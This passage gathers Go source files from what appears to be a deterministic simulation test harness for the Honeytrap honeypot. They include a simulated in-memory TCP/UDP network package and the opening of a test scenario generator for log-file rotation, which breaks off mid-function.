				ep, err := w.Net.Connect(mustTCPAddr(src), mustTCPAddr(a.Dst))
				if err != nil {
					cur = nil
					return
				}
				cur = ep
			case "endconn":
				if cur != nil && !udp {
					cur.Close()
				}
				cur = nil
			}
		}
		// sends of a seq actor go to the current connection
		w.SendHook = func(ai int, seg []byte) bool {
			a := &w.Sc.Actors[ai]
			if a.Kind != "seq" {
				return false
			}
			if udp {
				w.Net.SendUDP(mustUDPAddr(src), mustUDPAddr(a.Dst), seg)
			} else if cur != nil {
				cur.PeerInject(seg)
			}
			return true
		}
	}, afterDrain)
}
