package htsim

import (
	"github.com/honeytrap/honeytrap/services"
)

// prewarmStorage constructs every storage-backed service once, outside any bubble, so that all
// keys and certificates exist and later constructions inside bubbles only *read* badger
// (a badger write from inside a bubble deadlocks the bubble: DESIGN §2.2 rule 1).
func prewarmStorage() {
	for _, name := range []string{"ftp", "smtp", "ldap", "ssh-simulator", "ssh-auth", "ssh-proxy"} {
		if fn, ok := services.Get(name); ok {
			func() {
				defer func() { recover() }()
				fn()
			}()
		}
	}
}

// agentPrewarm makes the agent listener's key pair exist (filled in with the agent engine).
var agentPrewarm = func() {}
