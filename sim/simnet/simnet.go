// Package simnet is the simulated kernel network the honeypot runs on inside a synctest bubble:
// TCP-like streams, UDP sockets and listening sockets whose every delivery is decided by the
// scheduler.  Nothing here reads a real clock, a real socket or an unseeded random source.
package simnet

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"sync"
	"syscall"
	"time"
)

// Net is one simulated host network.  One per run.
type Net struct {
	mu        sync.Mutex
	tcpL      map[int][]*Listener // by port
	udpS      map[int][]*UDPSock  // by port
	streams   []*Stream
	Log       []string // listen/dial/accept/close/refuse log (deterministic order)
	nextEphem int
	// RefuseDial: when non-nil decides whether a dial is refused (fault injection for C15)
	RefuseDial func(network, addr string) bool
	// OnDial is called (outside the lock) for every successful Dial with the server side endpoint.
	Stats  Stats
	// Step points at the scheduler's step counter (log lines are stamped with it)
	Step   *int
	statMu sync.Mutex
	allUDP []*UDPSock
}

func (n *Net) stat(f func(*Stats)) {
	n.statMu.Lock()
	f(&n.Stats)
	n.statMu.Unlock()
}

type Stats struct {
	Listens, Accepts, Dials, Refused, Closes, Resets, DeadlineFires, Stalls int
	BytesC2S, BytesS2C                                                        int
	DgramsIn, DgramsOut                                                       int
}

// Current is the network the seams talk to.  Set by the world before boot.
var Current *Net

func New() *Net {
	return &Net{tcpL: map[int][]*Listener{}, udpS: map[int][]*UDPSock{}, nextEphem: 40000}
}

func (n *Net) logf(format string, a ...interface{}) {
	st := 0
	if n.Step != nil {
		st = *n.Step
	}
	n.Log = append(n.Log, fmt.Sprintf("%06d ", st)+fmt.Sprintf(format, a...))
}

// ---------------------------------------------------------------------------------------------
// errors

type timeoutError struct{}

func (timeoutError) Error() string   { return "i/o timeout" }
func (timeoutError) Timeout() bool   { return true }
func (timeoutError) Temporary() bool { return true }
func (timeoutError) Is(err error) bool {
	return err == os.ErrDeadlineExceeded
}

var ErrTimeout net.Error = timeoutError{}

func opErr(op string, a net.Addr, err error) error {
	return &net.OpError{Op: op, Net: "tcp", Addr: a, Err: err}
}

var errClosed = errors.New("use of closed network connection")

// ---------------------------------------------------------------------------------------------
// broadcast wake-up usable under synctest (channel receive is a durable block)

type waker struct{ ch chan struct{} }

func (w *waker) get() chan struct{} {
	if w.ch == nil {
		w.ch = make(chan struct{})
	}
	return w.ch
}
func (w *waker) wake() {
	if w.ch != nil {
		close(w.ch)
		w.ch = nil
	}
}

// ---------------------------------------------------------------------------------------------
// streams

// Stream is a TCP-like connection: two endpoints.
type Stream struct {
	ID   int
	n    *Net
	mu   sync.Mutex
	ends [2]*Endpoint // 0 = active opener (client), 1 = accepted side
}

// Endpoint implements net.Conn.
type Endpoint struct {
	s             *Stream
	side          int
	local, remote net.Addr
	w             waker

	rbuf      []byte // delivered bytes, readable
	inflight  []byte // written by the peer, not yet delivered (scheduled direction only)
	Scheduled bool   // true: peer writes wait in inflight until Deliver is called
	peerFIN   bool   // peer closed its write side (after inflight drained -> EOF)
	finQueued bool   // FIN waits behind inflight data
	rst       bool   // connection reset
	closed    bool   // closed locally
	rdl, wdl  time.Time
	Stalled   bool // receiver window zero: peer Write blocks
	Window    int  // bytes the peer may have unread+inflight before Write parks (0 = unlimited)

	// accounting (read by oracles)
	TotalRead    int // bytes handed to Read callers
	TotalWritten int // bytes accepted by Write
	Sent         []byte // everything this endpoint ever wrote (kept when Record is set)
	Record       bool
	ClosedAt     time.Time
	ReadCalls    int
}

func (e *Endpoint) peer() *Endpoint { return e.s.ends[1-e.side] }

func (e *Endpoint) LocalAddr() net.Addr  { return e.local }
func (e *Endpoint) RemoteAddr() net.Addr { return e.remote }
func (e *Endpoint) StreamID() int        { return e.s.ID }

func (e *Endpoint) Read(b []byte) (int, error) {
	s := e.s
	for {
		s.mu.Lock()
		e.ReadCalls++
		if e.closed {
			s.mu.Unlock()
			return 0, opErr("read", e.local, errClosed)
		}
		if e.rst {
			s.mu.Unlock()
			return 0, opErr("read", e.local, syscall.ECONNRESET)
		}
		if len(e.rbuf) > 0 {
			n := copy(b, e.rbuf)
			e.rbuf = e.rbuf[n:]
			e.TotalRead += n
			// room in the window: wake a parked writer
			e.peer().w.wake()
			e.w.wake()
			s.mu.Unlock()
			return n, nil
		}
		if len(b) == 0 {
			s.mu.Unlock()
			return 0, nil
		}
		if e.peerFIN && len(e.inflight) == 0 {
			s.mu.Unlock()
			return 0, io.EOF
		}
		var timer *time.Timer
		var tc <-chan time.Time
		if !e.rdl.IsZero() {
			d := time.Until(e.rdl)
			if d <= 0 {
				s.n.stat(func(x *Stats) { x.DeadlineFires++ })
				s.mu.Unlock()
				return 0, opErr("read", e.local, ErrTimeout)
			}
			timer = time.NewTimer(d)
			tc = timer.C
		}
		ch := e.w.get()
		s.mu.Unlock()
		select {
		case <-ch:
		case <-tc:
		}
		if timer != nil {
			timer.Stop()
		}
	}
}

func (e *Endpoint) Write(b []byte) (int, error) {
	s := e.s
	p := e.peer()
	for {
		s.mu.Lock()
		if e.closed {
			s.mu.Unlock()
			return 0, opErr("write", e.local, errClosed)
		}
		if e.rst {
			s.mu.Unlock()
			return 0, opErr("write", e.local, syscall.ECONNRESET)
		}
		if p.closed {
			// peer fully closed: a real kernel answers RST; the writer sees EPIPE
			s.mu.Unlock()
			return 0, opErr("write", e.local, syscall.EPIPE)
		}
		blocked := p.Stalled || (p.Window > 0 && len(p.rbuf)+len(p.inflight) >= p.Window)
		if !blocked {
			if e.Record {
				e.Sent = append(e.Sent, b...)
			}
			e.TotalWritten += len(b)
			nb, side := len(b), e.side
			s.n.stat(func(x *Stats) {
				if side == 0 {
					x.BytesC2S += nb
				} else {
					x.BytesS2C += nb
				}
			})
			if p.Scheduled {
				p.inflight = append(p.inflight, b...)
			} else {
				p.rbuf = append(p.rbuf, b...)
				p.w.wake()
			}
			s.mu.Unlock()
			return len(b), nil
		}
		s.n.stat(func(x *Stats) { x.Stalls++ })
		var timer *time.Timer
		var tc <-chan time.Time
		if !e.wdl.IsZero() {
			d := time.Until(e.wdl)
			if d <= 0 {
				s.n.stat(func(x *Stats) { x.DeadlineFires++ })
				s.mu.Unlock()
				return 0, opErr("write", e.local, ErrTimeout)
			}
			timer = time.NewTimer(d)
			tc = timer.C
		}
		ch := e.w.get()
		s.mu.Unlock()
		select {
		case <-ch:
		case <-tc:
		}
		if timer != nil {
			timer.Stop()
		}
	}
}

// Close closes this endpoint (both directions); the peer reads EOF after draining.
func (e *Endpoint) Close() error {
	s := e.s
	s.mu.Lock()
	if e.closed {
		s.mu.Unlock()
		return opErr("close", e.local, errClosed)
	}
	e.closed = true
	e.ClosedAt = time.Now()
	p := e.peer()
	p.peerFIN = true
	e.w.wake()
	p.w.wake()
	s.mu.Unlock()
	s.n.mu.Lock()
	s.n.stat(func(x *Stats) { x.Closes++ })
	s.n.logf("close stream=%d side=%d", s.ID, e.side)
	s.n.mu.Unlock()
	return nil
}

// CloseWrite half-closes (FIN) without closing the read side.
func (e *Endpoint) CloseWrite() error {
	s := e.s
	s.mu.Lock()
	p := e.peer()
	p.peerFIN = true
	p.w.wake()
	s.mu.Unlock()
	return nil
}

// Reset aborts the connection: both sides see ECONNRESET.
func (e *Endpoint) Reset() {
	s := e.s
	s.mu.Lock()
	e.rst = true
	p := e.peer()
	p.rst = true
	p.rbuf = nil
	p.inflight = nil
	e.w.wake()
	p.w.wake()
	s.mu.Unlock()
	s.n.mu.Lock()
	s.n.stat(func(x *Stats) { x.Resets++ })
	s.n.mu.Unlock()
}

func (e *Endpoint) SetDeadline(t time.Time) error {
	e.s.mu.Lock()
	if e.closed {
		e.s.mu.Unlock()
		return opErr("set", e.local, errClosed)
	}
	e.rdl, e.wdl = t, t
	e.w.wake()
	e.s.mu.Unlock()
	return nil
}
func (e *Endpoint) SetReadDeadline(t time.Time) error {
	e.s.mu.Lock()
	if e.closed {
		e.s.mu.Unlock()
		return opErr("set", e.local, errClosed)
	}
	e.rdl = t
	e.w.wake()
	e.s.mu.Unlock()
	return nil
}
func (e *Endpoint) SetWriteDeadline(t time.Time) error {
	e.s.mu.Lock()
	if e.closed {
		e.s.mu.Unlock()
		return opErr("set", e.local, errClosed)
	}
	e.wdl = t
	e.w.wake()
	e.s.mu.Unlock()
	return nil
}

// ---- scheduler-side operations -----------------------------------------------------------------

// Inject makes b readable at this endpoint right now (a scripted peer "delivers a segment").
func (e *Endpoint) Inject(b []byte) {
	e.s.mu.Lock()
	if !e.closed && !e.rst {
		e.rbuf = append(e.rbuf, b...)
		nb, side := len(b), e.side
		e.s.n.stat(func(x *Stats) {
			if side == 1 {
				x.BytesC2S += nb
			} else {
				x.BytesS2C += nb
			}
		})
		e.w.wake()
	}
	e.s.mu.Unlock()
}

// Inflight returns how many bytes wait for delivery towards this endpoint.
func (e *Endpoint) Inflight() int {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return len(e.inflight)
}

// Deliver moves up to k inflight bytes to the readable buffer; returns the bytes moved.
func (e *Endpoint) Deliver(k int) []byte {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	if k > len(e.inflight) {
		k = len(e.inflight)
	}
	if k <= 0 {
		return nil
	}
	seg := append([]byte(nil), e.inflight[:k]...)
	e.rbuf = append(e.rbuf, seg...)
	e.inflight = e.inflight[k:]
	e.w.wake()
	return seg
}

// Take removes and returns everything readable at this endpoint (scripted peers read this way).
func (e *Endpoint) Take() []byte {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	b := e.rbuf
	e.rbuf = nil
	e.TotalRead += len(b)
	if len(b) > 0 {
		e.peer().w.wake()
	}
	return b
}

// Unread is the number of delivered-but-unread bytes.
func (e *Endpoint) Unread() int {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return len(e.rbuf)
}

// SetStalled opens/closes the receive window of this endpoint.
func (e *Endpoint) SetStalled(v bool) {
	e.s.mu.Lock()
	e.Stalled = v
	e.peer().w.wake()
	e.s.mu.Unlock()
}

// PeerClosed reports whether the other side has closed (FIN seen and nothing left) or reset.
func (e *Endpoint) PeerClosed() bool {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return e.rst || e.peer().closed
}

// PeerFIN reports whether the other side has sent FIN (close or half-close).
func (e *Endpoint) PeerFIN() bool {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return e.peerFIN || e.rst
}

func (e *Endpoint) IsClosed() bool {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return e.closed
}

// ---------------------------------------------------------------------------------------------
// listeners

type Listener struct {
	n      *Net
	addr   *net.TCPAddr
	mu     sync.Mutex
	w      waker
	queue  []*Endpoint
	closed bool
	Owner  string
}

func (l *Listener) Accept() (net.Conn, error) {
	for {
		l.mu.Lock()
		if l.closed {
			l.mu.Unlock()
			return nil, opErr("accept", l.addr, errClosed)
		}
		if len(l.queue) > 0 {
			e := l.queue[0]
			l.queue = l.queue[1:]
			l.mu.Unlock()
			l.n.mu.Lock()
			l.n.stat(func(x *Stats) { x.Accepts++ })
			l.n.logf("accept %s <- %s stream=%d", e.local, e.remote, e.s.ID)
			l.n.mu.Unlock()
			return e, nil
		}
		ch := l.w.get()
		l.mu.Unlock()
		<-ch
	}
}

func (l *Listener) Close() error {
	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		return opErr("close", l.addr, errClosed)
	}
	l.closed = true
	pending := l.queue
	l.queue = nil
	l.w.wake()
	l.mu.Unlock()
	// connections completed by the kernel but never accepted are reset when the listening socket goes away
	for _, e := range pending {
		e.Reset()
		e.Close()
	}
	n := l.n
	n.mu.Lock()
	ls := n.tcpL[l.addr.Port]
	for i, x := range ls {
		if x == l {
			n.tcpL[l.addr.Port] = append(ls[:i:i], ls[i+1:]...)
			break
		}
	}
	n.logf("unlisten tcp %s", l.addr)
	n.mu.Unlock()
	return nil
}
func (l *Listener) Addr() net.Addr { return l.addr }

func unspecified(ip net.IP) bool { return len(ip) == 0 || ip.IsUnspecified() }

// ListenTCP registers a listening socket. Port 0 picks an ephemeral port.
func (n *Net) ListenTCP(addr *net.TCPAddr, owner string) (*Listener, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	a := &net.TCPAddr{IP: addr.IP, Port: addr.Port, Zone: addr.Zone}
	if a.Port == 0 {
		n.nextEphem++
		a.Port = n.nextEphem
	}
	for _, l := range n.tcpL[a.Port] {
		if (l.Owner == "backend") != (owner == "backend") {
			continue // another host: its sockets cannot conflict with ours
		}
		if unspecified(l.addr.IP) || unspecified(a.IP) || l.addr.IP.Equal(a.IP) {
			n.logf("listen-fail tcp %s (in use)", a)
			return nil, &net.OpError{Op: "listen", Net: "tcp", Addr: a, Err: syscall.EADDRINUSE}
		}
	}
	l := &Listener{n: n, addr: a, Owner: owner}
	n.tcpL[a.Port] = append(n.tcpL[a.Port], l)
	n.stat(func(x *Stats) { x.Listens++ })
	n.logf("listen tcp %s", a)
	return l, nil
}

// Listen is the net.Listen-shaped entry used by seams.
func (n *Net) Listen(network, address string) (net.Listener, error) {
	a, err := net.ResolveTCPAddr(network, address)
	if err != nil {
		return nil, err
	}
	return n.ListenTCP(a, "")
}

// Connect opens a stream from src to dst as a scripted peer would; returns the client endpoint
// (nil, error when nobody listens).  serverScheduled: bytes written by the *client goroutine* (if the
// client is code, not a script) wait in inflight.
func (n *Net) Connect(src, dst *net.TCPAddr) (*Endpoint, error) {
	n.mu.Lock()
	var l *Listener
	for _, x := range n.tcpL[dst.Port] { // an exact address first (it may belong to another host)
		if !unspecified(x.addr.IP) && x.addr.IP.Equal(dst.IP) {
			l = x
			break
		}
	}
	for _, x := range n.tcpL[dst.Port] {
		if l == nil && unspecified(x.addr.IP) {
			l = x
		}
	}
	if l == nil {
		n.stat(func(x *Stats) { x.Refused++ })
		n.logf("refused tcp %s <- %s", dst, src)
		n.mu.Unlock()
		return nil, &net.OpError{Op: "dial", Net: "tcp", Addr: dst, Err: syscall.ECONNREFUSED}
	}
	s := &Stream{ID: len(n.streams) + 1, n: n}
	c := &Endpoint{s: s, side: 0, local: src, remote: dst}
	v := &Endpoint{s: s, side: 1, local: dst, remote: src}
	s.ends = [2]*Endpoint{c, v}
	n.streams = append(n.streams, s)
	n.stat(func(x *Stats) { x.Dials++ })
	n.logf("connect %s -> %s stream=%d", src, dst, s.ID)
	n.mu.Unlock()
	l.mu.Lock()
	l.queue = append(l.queue, v)
	l.w.wake()
	l.mu.Unlock()
	return c, nil
}

// Dial is the net.Dial-shaped entry used by seams (code inside the simulated host dialling out).
func (n *Net) Dial(network, address string) (net.Conn, error) {
	switch network {
	case "tcp", "tcp4", "tcp6":
		if n.RefuseDial != nil && n.RefuseDial(network, address) {
			n.mu.Lock()
			n.stat(func(x *Stats) { x.Refused++ })
			n.logf("dial-refused(fault) %s %s", network, address)
			n.mu.Unlock()
			return nil, &net.OpError{Op: "dial", Net: network, Err: syscall.ECONNREFUSED}
		}
		dst, err := net.ResolveTCPAddr(network, address)
		if err != nil {
			return nil, err
		}
		n.mu.Lock()
		n.nextEphem++
		src := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: n.nextEphem}
		n.logf("dial %s %s", network, address)
		n.mu.Unlock()
		e, err := n.Connect(src, dst)
		if err != nil {
			return nil, err
		}
		return e, nil
	case "udp", "udp4", "udp6":
		dst, err := net.ResolveUDPAddr(network, address)
		if err != nil {
			return nil, err
		}
		n.mu.Lock()
		n.nextEphem++
		src := &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: n.nextEphem}
		n.logf("dial %s %s", network, address)
		n.mu.Unlock()
		return n.dialUDP(src, dst)
	}
	return nil, fmt.Errorf("simnet: unsupported network %q", network)
}

// Streams returns all streams ever created.
func (n *Net) Streams() []*Stream {
	n.mu.Lock()
	defer n.mu.Unlock()
	return append([]*Stream(nil), n.streams...)
}
func (s *Stream) Client() *Endpoint { return s.ends[0] }
func (s *Stream) Server() *Endpoint { return s.ends[1] }

// TCPListeners returns the sorted list of "ip:port" currently listened on.
func (n *Net) TCPListeners() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	var out []string
	for _, ls := range n.tcpL {
		for _, l := range ls {
			out = append(out, l.addr.String())
		}
	}
	sort.Strings(out)
	return out
}
func (n *Net) UDPSockets() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	var out []string
	for _, ls := range n.udpS {
		for _, l := range ls {
			if !l.connected && !l.remote {
				out = append(out, l.addr.String())
			}
		}
	}
	sort.Strings(out)
	return out
}

// ---------------------------------------------------------------------------------------------
// UDP

type Datagram struct {
	From    *net.UDPAddr
	To      *net.UDPAddr
	Payload []byte
	At      time.Time
}

type UDPSock struct {
	n         *Net
	addr      *net.UDPAddr
	mu        sync.Mutex
	w         waker
	queue     []Datagram
	closed    bool
	remote    bool         // lives on another host of the simulated network
	connected bool         // created by Dial: Read/Write are allowed
	peerAddr  *net.UDPAddr // for connected sockets
	rdl       time.Time
	Out       []Datagram // everything written from this socket
}

// ListenUDPRemote opens a datagram socket on another host of the simulated network (a backend).
func (n *Net) ListenUDPRemote(laddr *net.UDPAddr) (*UDPSock, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	u := &UDPSock{n: n, addr: &net.UDPAddr{IP: laddr.IP, Port: laddr.Port}, remote: true}
	n.allUDP = append(n.allUDP, u)
	n.udpS[laddr.Port] = append(n.udpS[laddr.Port], u)
	n.logf("listen udp %s (remote host)", u.addr)
	return u, nil
}

func (n *Net) ListenUDP(network string, laddr *net.UDPAddr) (*UDPSock, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	a := &net.UDPAddr{IP: laddr.IP, Port: laddr.Port, Zone: laddr.Zone}
	if len(a.IP) == 0 {
		// like the kernel: a wildcard "udp" socket reports [::] as its local address
		a.IP = net.IPv6unspecified
	}
	if a.Port == 0 {
		n.nextEphem++
		a.Port = n.nextEphem
	}
	for _, l := range n.udpS[a.Port] {
		if l.connected || l.remote {
			continue
		}
		if unspecified(l.addr.IP) || unspecified(a.IP) || l.addr.IP.Equal(a.IP) {
			n.logf("listen-fail udp %s (in use)", a)
			return nil, &net.OpError{Op: "listen", Net: "udp", Addr: a, Err: syscall.EADDRINUSE}
		}
	}
	u := &UDPSock{n: n, addr: a}
	n.allUDP = append(n.allUDP, u)
	n.udpS[a.Port] = append(n.udpS[a.Port], u)
	n.stat(func(x *Stats) { x.Listens++ })
	n.logf("listen udp %s", a)
	return u, nil
}

func (n *Net) dialUDP(src, dst *net.UDPAddr) (*UDPSock, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	u := &UDPSock{n: n, addr: src, connected: true, peerAddr: dst}
	n.allUDP = append(n.allUDP, u)
	n.udpS[src.Port] = append(n.udpS[src.Port], u)
	return u, nil
}

// SendUDP delivers one datagram to whoever listens on `to` (scheduler action). false = nobody.
func (n *Net) SendUDP(from, to *net.UDPAddr, payload []byte) bool {
	n.mu.Lock()
	var u *UDPSock
	for _, x := range n.udpS[to.Port] {
		if !x.closed && !unspecified(x.addr.IP) && x.addr.IP.Equal(to.IP) {
			u = x
			break
		}
	}
	for _, x := range n.udpS[to.Port] {
		if u == nil && !x.closed && unspecified(x.addr.IP) {
			u = x
		}
	}
	n.stat(func(x *Stats) { x.DgramsIn++ })
	n.mu.Unlock()
	if u == nil {
		return false
	}
	u.mu.Lock()
	u.queue = append(u.queue, Datagram{From: from, To: to, Payload: append([]byte(nil), payload...), At: time.Now()})
	u.w.wake()
	u.mu.Unlock()
	return true
}

func (u *UDPSock) recv() (Datagram, error) {
	for {
		u.mu.Lock()
		if u.closed {
			u.mu.Unlock()
			return Datagram{}, opErr("read", u.addr, errClosed)
		}
		if len(u.queue) > 0 {
			d := u.queue[0]
			u.queue = u.queue[1:]
			u.mu.Unlock()
			return d, nil
		}
		var timer *time.Timer
		var tc <-chan time.Time
		if !u.rdl.IsZero() {
			d := time.Until(u.rdl)
			if d <= 0 {
				u.mu.Unlock()
				return Datagram{}, opErr("read", u.addr, ErrTimeout)
			}
			timer = time.NewTimer(d)
			tc = timer.C
		}
		ch := u.w.get()
		u.mu.Unlock()
		select {
		case <-ch:
		case <-tc:
		}
		if timer != nil {
			timer.Stop()
		}
	}
}

func (u *UDPSock) ReadFromUDP(b []byte) (int, *net.UDPAddr, error) {
	d, err := u.recv()
	if err != nil {
		return 0, nil, err
	}
	n := copy(b, d.Payload)
	return n, d.From, nil
}

func (u *UDPSock) ReadFrom(b []byte) (int, net.Addr, error) {
	n, a, err := u.ReadFromUDP(b)
	if err != nil {
		return n, nil, err
	}
	return n, a, nil
}

func (u *UDPSock) WriteToUDP(b []byte, addr *net.UDPAddr) (int, error) {
	u.mu.Lock()
	if u.closed {
		u.mu.Unlock()
		return 0, opErr("write", u.addr, errClosed)
	}
	d := Datagram{From: u.addr, To: addr, Payload: append([]byte(nil), b...), At: time.Now()}
	u.Out = append(u.Out, d)
	u.mu.Unlock()
	n := u.n
	n.mu.Lock()
	n.stat(func(x *Stats) { x.DgramsOut++ })
	// a reply to something listening inside the simulation (e.g. a scripted backend) is delivered
	var dst *UDPSock
	if addr != nil {
		for _, x := range n.udpS[addr.Port] {
			if !x.closed && !unspecified(x.addr.IP) && x.addr.IP.Equal(addr.IP) {
				dst = x
				break
			}
		}
		for _, x := range n.udpS[addr.Port] {
			if dst == nil && !x.closed && unspecified(x.addr.IP) {
				dst = x
			}
		}
	}
	n.mu.Unlock()
	if dst != nil && dst != u {
		dst.mu.Lock()
		dst.queue = append(dst.queue, d)
		dst.w.wake()
		dst.mu.Unlock()
	}
	return len(b), nil
}

func (u *UDPSock) WriteTo(b []byte, addr net.Addr) (int, error) {
	ua, ok := addr.(*net.UDPAddr)
	if !ok {
		return 0, fmt.Errorf("simnet: WriteTo needs *net.UDPAddr")
	}
	return u.WriteToUDP(b, ua)
}

// Read/Write for connected (dialled) sockets.
func (u *UDPSock) Read(b []byte) (int, error) {
	n, _, err := u.ReadFromUDP(b)
	return n, err
}
func (u *UDPSock) Write(b []byte) (int, error) {
	if !u.connected {
		return 0, opErr("write", u.addr, syscall.EDESTADDRREQ)
	}
	return u.WriteToUDP(b, u.peerAddr)
}
func (u *UDPSock) LocalAddr() net.Addr { return u.addr }
func (u *UDPSock) RemoteAddr() net.Addr {
	if u.peerAddr == nil {
		return nil
	}
	return u.peerAddr
}
func (u *UDPSock) SetDeadline(t time.Time) error {
	u.mu.Lock()
	u.rdl = t
	u.w.wake()
	u.mu.Unlock()
	return nil
}
func (u *UDPSock) SetReadDeadline(t time.Time) error  { return u.SetDeadline(t) }
func (u *UDPSock) SetWriteDeadline(t time.Time) error { return nil }
func (u *UDPSock) Close() error {
	u.mu.Lock()
	if u.closed {
		u.mu.Unlock()
		return opErr("close", u.addr, errClosed)
	}
	u.closed = true
	u.w.wake()
	u.mu.Unlock()
	n := u.n
	n.mu.Lock()
	n.stat(func(x *Stats) { x.Closes++ })
	ls := n.udpS[u.addr.Port]
	for i, x := range ls {
		if x == u {
			n.udpS[u.addr.Port] = append(ls[:i:i], ls[i+1:]...)
			break
		}
	}
	n.mu.Unlock()
	return nil
}

// Sent returns a copy of everything written from this socket.
func (u *UDPSock) Sent() []Datagram {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]Datagram(nil), u.Out...)
}

// AllUDPOut returns every datagram any listening socket of the host has sent, in order per socket.
func (n *Net) AllUDPOut() []Datagram {
	n.mu.Lock()
	socks := append([]*UDPSock(nil), n.allUDP...)
	n.mu.Unlock()
	var out []Datagram
	for _, s := range socks {
		out = append(out, s.Sent()...)
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].At.Before(out[j].At) })
	return out
}

// PeerInject delivers a segment to the other side of the stream (scripted peers "send").
func (e *Endpoint) PeerInject(b []byte) { e.peer().Inject(b) }

// PeerTotalRead is the number of bytes the other side has consumed through Read.
func (e *Endpoint) PeerTotalRead() int {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return e.peer().TotalRead
}

// PeerUnread is the number of bytes delivered to the other side and not yet read by it.
func (e *Endpoint) PeerUnread() int {
	e.s.mu.Lock()
	defer e.s.mu.Unlock()
	return len(e.peer().rbuf)
}
