package htsim

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/event"
)

// C07 — the file channel keeps every event as one intact JSON line across rotations.
//
// The real `file` channel behind the real Run() wiring (filter on category c07), on a real temp
// directory, driven by 1-3 sender actors on the fake clock; faults: the active file removed or
// renamed externally, the directory made unwritable, destination unwritable from the start.

func init() {
	engines["C07"] = &Engine{Gen: genC07, Run: runC07}
}

type c07Emit struct {
	Serial int `json:"serial"`
	Pad    int `json:"pad"`
	// Bad: an event the JSON encoder refuses (a NaN value): it cannot be logged - and must not take any other
	// event with it
	Bad bool `json:"bad,omitempty"`
}

func c07Config(maxsize int, bad bool) string {
	file := "@TMP@/log/events.log"
	if bad {
		file = "@TMP@/notadir/events.log"
	}
	return fmt.Sprintf("\n[listener]\ntype=\"socket\"\n\n[channel.f]\ntype=\"file\"\nfilename=%s\nmaxsize=%d\n\n[[filter]]\nchannel=[\"f\"]\ncategories=[\"^c07$\"]\n\n[service.bus]\ntype=\"stub\"\nname=\"bus\"\n\n[[port]]\nport=\"tcp/9\"\nservices=[\"bus\"]\n", tomlStr(file), maxsize)
}

// approximate JSON line overhead of an event {"category","date","pad","serial","token"} without pad
const c07Overhead = 118

func genC07(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c07")
	maxsize := []int{1024, 1024, 1024, 4096, 1 << 20}[r.Intn(5)]
	sc := &Scenario{Engine: "c07", Params: map[string]interface{}{"maxsize": maxsize}}
	class := "fault-free"
	faulty := r.Chance(0.3)
	badStart := faulty && r.Chance(0.15)
	sc.Config = c07Config(maxsize, badStart)
	if badStart {
		sc.Params["bad_start"] = true
		class = "unwritable-at-start"
		sc.Faults = []string{"unwritable-destination"}
	}
	if !badStart && r.Chance(0.3) {
		// history: an earlier run of the sensor left a log file behind (smaller than, or exactly at, the limit)
		var prior []int
		total := 0
		for k := r.Range(1, 6); k > 0; k-- {
			l := c07Overhead + r.Range(0, maxsize/3)
			if maxsize > 4096 {
				l = c07Overhead + r.Range(0, 2000)
			}
			if total+l > maxsize {
				break
			}
			prior = append(prior, l)
			total += l
		}
		if len(prior) > 0 && r.Chance(0.25) && maxsize <= 4096 && maxsize-total >= 0 {
			prior[len(prior)-1] += maxsize - total // exactly at the limit
		}
		sc.Params["prior"] = prior
		class += "+restart"
	}
	unenc := !badStart && r.Chance(0.25) // some events of this run do not encode
	if unenc {
		class += "+unencodable"
	}
	if _, has := sc.Params["prior"]; has && maxsize <= 4096 && r.Chance(0.4) {
		// the earlier run had rotated already, within the very second in which this one starts (a restart loop):
		// its rotated files carry the names this run's first rotations would pick, and its last log file is at
		// the limit, so that opening it rotates at once
		sc.Params["prior_rotated"] = r.Range(1, 3)
		class += "+rotated-this-second"
	}
	serial := 0
	ns := r.Range(1, 3)
	gaps := []int64{0, 0, 0, 10, 999, 1000, 1001, 1500, 5000}
	lens := func() int {
		m := maxsize
		if m > 4096 {
			m = 4096 // boundary values are explored around a few KiB; bursts reach the large limit
		}
		switch r.Intn(8) {
		case 0:
			return m + r.Range(-3, 3)
		case 1:
			return m/2 + r.Range(-3, 3)
		case 2:
			return m/3 + r.Range(-2, 2)
		case 3:
			return m + r.Range(1, 600) // a single line larger than the limit
		case 4:
			return c07Overhead + r.Range(0, 4)
		default:
			return r.Range(c07Overhead, m)
		}
	}
	for s := 0; s < ns; s++ {
		a := Actor{Kind: "sender", Name: fmt.Sprintf("s%d", s)}
		n := r.Range(1, 10)
		burst := r.Chance(0.08)
		if burst {
			n = r.Range(200, 700) // flush by size (>= 500 KiB needs ~1 KiB lines)
			class += "+burst"
		}
		for k := 0; k < n; k++ {
			serial++
			l := lens()
			if burst {
				l = r.Range(900, 1400)
			}
			pad := l - c07Overhead
			if pad < 0 {
				pad = 0
			}
			ej, _ := json.Marshal(c07Emit{Serial: serial, Pad: pad, Bad: unenc && r.Chance(0.2)})
			a.Ops = append(a.Ops, Op{K: "emit", Exp: ej})
			if g := gaps[r.Intn(len(gaps))]; g > 0 && !burst {
				a.Ops = append(a.Ops, Op{K: "sleep", Ms: g})
			}
		}
		sc.Actors = append(sc.Actors, a)
	}
	if faulty && !badStart && r.Chance(0.25) {
		// directed: a line is flushed by the timer, the active file disappears, and a burst large enough to be flushed
		// by size follows at once (within the same simulated second as the last write)
		sc.Actors = nil
		a := Actor{Kind: "sender", Name: "s0"}
		serial++
